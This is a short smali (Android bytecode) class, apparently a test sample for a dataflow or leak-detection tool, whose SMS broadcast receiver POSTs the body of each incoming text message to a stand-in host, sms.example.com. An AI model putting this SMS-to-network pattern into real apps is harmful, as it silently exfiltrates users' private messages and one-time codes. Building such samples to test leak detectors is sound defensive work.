.class public Lorg/dexflow/sample/sources/SmsReceiver;
.super Landroid/content/BroadcastReceiver;
.source "SmsReceiver.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

# Telephony.Sms.Intents.getMessagesFromIntent (API 19+): the first message's body is POSTed to
# String.format("https://sms.example.com/intents/%d", messages.length).
.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 7
    invoke-static {p2}, Landroid/provider/Telephony$Sms$Intents;->getMessagesFromIntent(Landroid/content/Intent;)[Landroid/telephony/SmsMessage;
    move-result-object v0
    const-string v1, "https://sms.example.com/intents/%d"
    const/4 v2, 0x1
    new-array v2, v2, [Ljava/lang/Object;
    array-length v3, v0
    invoke-static {v3}, Ljava/lang/Integer;->valueOf(I)Ljava/lang/Integer;
    move-result-object v3
    const/4 v4, 0x0
    aput-object v3, v2, v4
    invoke-static {v1, v2}, Ljava/lang/String;->format(Ljava/lang/String;[Ljava/lang/Object;)Ljava/lang/String;
    move-result-object v1
    const/4 v2, 0x0
    aget-object v0, v0, v2
    invoke-virtual {v0}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v0
    invoke-static {v1, v0}, Lorg/dexflow/sample/sources/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
